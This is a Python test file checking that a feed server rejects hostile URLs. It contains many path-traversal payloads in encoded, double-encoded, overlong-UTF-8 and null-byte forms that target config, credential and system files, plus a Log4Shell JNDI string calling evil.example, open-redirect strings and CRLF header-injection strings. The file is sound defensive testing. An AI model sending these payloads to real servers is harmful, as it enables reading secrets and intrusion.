"""Paths, hosts and URLs that try to leave the edition."""

from pathlib import Path

import pytest

from tests.support.factories import SITE
from tests.support.hostile_requests import FEED, MARK, refused_or_harmless
from tests.support.raw_http import Answer, Server, request

# Paths

CLIMBS = [
    *(
        "/../config.yaml",
        "/../secret/secret.txt",
        "/../publicly/secret.txt",
        "/feeds/../../config.yaml",
        "/./../config.yaml",
    ),
    *("/%2e%2e/config.yaml", "/%2e%2e%2fconfig.yaml", "/..%2fconfig.yaml", "/feeds/..%2f..%2fconfig.yaml"),
    *("/%252e%252e/config.yaml", "/%252e%252e%252fconfig.yaml", "/%25%32%65%25%32%65/config.yaml"),
    *(
        "/..\\config.yaml",
        "/..%5cconfig.yaml",
        "/feeds\\..\\..\\config.yaml",
        "/%5c..%5cconfig.yaml",
        "/..%255cconfig.yaml",
    ),
    *(
        "/%c0%ae%c0%ae/config.yaml",
        "/%c0%ae%c0%ae%c0%afconfig.yaml",
        "/..%c0%afconfig.yaml",
        "/%e0%80%ae%e0%80%ae/config.yaml",
    ),
    *("/..;/config.yaml", "/....//config.yaml", "/.../config.yaml", "/feeds/ai.xml/../../../config.yaml"),
    *(
        "/%uff0e%uff0e/config.yaml",
        "/％２ｅ％２ｅ/config.yaml".encode().decode("latin-1"),
        "/‥/config.yaml".encode().decode("latin-1"),
    ),
    *(
        "/secret.txt",
        "/.env",
        "/.feed.new",
        "/feeds/.ai.xml.new",
        "/feeds/secret.xml",
        "/_secret",
        "/secret.txt.gz",
        "/link.xml",
    ),
    *(
        "/secret.txt%00",
        "/secret.txt%00.xml",
        "/feeds/ai.xml%00",
        "/feeds/ai.xml%00.html",
        "/%00",
        "/%00/../config.yaml",
    ),
    *(
        "/feeds/ai.xml%0a",
        "/feeds/ai.xml%20",
        "/feeds/ai.xml.",
        "/feeds/ai.xml::$DATA",
        "/feeds/ai.xml%3fx",
        "/feeds/ai.xml;a=b",
    ),
    *("/etc/passwd", "//etc/passwd", "/file:///etc/passwd", "/proc/self/environ", "/%2fetc%2fpasswd", "/~root/.bashrc"),
    *(
        "/feeds/%2e/ai.xml",
        "/feeds//ai.xml",
        "//feeds/ai.xml",
        "/feeds%2fai.xml%2f",
        "/feeds/ai.xml/x",
        "/FEEDS/AI.XML",
    ),
    *(
        "/feeds/ai.xml%",
        "/%",
        "/%z",
        "/%0",
        "/%zz%ff",
        "/%ff%fe",
        "/feeds/%ff.xml",
        "/%ed%a0%80.xml",
        "/feeds/%e6%bc.xml",
    ),
    *(
        "/feeds/ai.xml#frag",
        "/{{7*7}}",
        "/${jndi:ldap://evil.example/a}",
        "/<script>",
        "/%3cscript%3e",
        "/'%20or%201=1--",
    ),
    *(
        "/.git/config",
        "/.well-known/../secret.txt",
        "/wp-login.php",
        "/cgi-bin/..%2f..%2fbin/sh",
        "/static/..%2fsecret.txt",
    ),
]


@pytest.mark.parametrize("path", CLIMBS)
def test_no_path_leaves_the_edition(served: Server, site: Path, whole: Answer, path: str) -> None:
    answer = refused_or_harmless(served, site, request(f"{path}?{MARK}"))
    assert answer is None or answer.status in (200, 400, 404)
    if answer and answer.status == 200:  # the same document, written in another way
        assert answer.body == whole.body
    answer = refused_or_harmless(served, site, request(f"{path}{MARK}"))
    assert answer is None or answer.status in (400, 404) or (answer.status, answer.body) == (200, whole.body)


@pytest.mark.parametrize(
    "path",
    [
        *("//evil.example", "//evil.example/", "//evil.example/feeds/ai.xml", "///evil.example/", "/\\evil.example/"),
        *("/%2fevil.example/", "/%2f%2fevil.example", "/%5cevil.example", "//evil.example/%2e%2e", "/.evil.example"),
        *("//evil.example/feeds/old.xml", "/feeds/old.xml//evil.example", "/feeds/old.xml?next=//evil.example/"),
        *(
            "/feeds/old.xml?@evil.example",
            "/@evil.example/feeds/old.xml",
            "/feeds//old.xml",
            "/feeds/old.xml%2f..%2f..",
        ),
        *("/feeds/old.xml%0d%0aLocation:%20//evil.example/", "/feeds", "/feeds/", "/assets", ""),
    ],
)
def test_no_path_redirects_to_another_host(served: Server, site: Path, path: str) -> None:
    for host in ("feeds.test", "evil.example"):
        answer = refused_or_harmless(served, site, request(path or "/", Host=host))
        assert answer
        if answer.status == 301:
            assert answer["Location"] == f"{SITE.url}feeds/ai.xml"
        else:
            assert "Location" not in answer


@pytest.mark.parametrize(
    "path",
    [
        f"/{MARK}%0d%0aX-Injected:%20yes",
        f"{FEED}%0d%0aX-Injected:%20yes%0d%0a%0d%0a{MARK}",
        f"{FEED}?a=%0d%0aX-Injected:%20yes",
        f"/feeds/old.xml?a=%0d%0aX-Injected:%20{MARK}",
        f"/feeds/old.xml%0aX-Injected:{MARK}",
        f"/%E5%98%8A%E5%98%8DX-Injected:{MARK}",  # whose low bytes are CR and LF
        f"/%u000d%u000aX-Injected:{MARK}",
    ],
)
def test_a_line_break_in_a_url_adds_no_header(served: Server, site: Path, path: str) -> None:
    assert refused_or_harmless(served, site, request(path))


@pytest.mark.parametrize("size", [5_000, 60_000, 300_000, 1_000_000])
@pytest.mark.parametrize("form", ["/{}", "/feeds/{}.xml", "/feeds/ai.xml?{}", "/{}%2f..%2f", "/%2e%2e/{}"])
def test_a_long_url_affects_only_its_client(served: Server, site: Path, size: int, form: str) -> None:
    answer = refused_or_harmless(served, site, request(form.format((MARK * size)[:size])))
    assert answer is None or answer.status in (200, 400, 404, 413, 414, 431)


def test_a_url_of_many_segments_affects_only_its_client(served: Server, site: Path) -> None:
    for path in (
        "/a" * 20_000,
        "/.." * 10_000,
        "/%2e%2e" * 8_000,
        "//" * 20_000,
        "/?" + "&a=b" * 15_000,
        "/%00" * 15_000,
    ):
        answer = refused_or_harmless(served, site, request(path))
        assert answer is None or answer.status in (200, 400, 404, 414, 431)
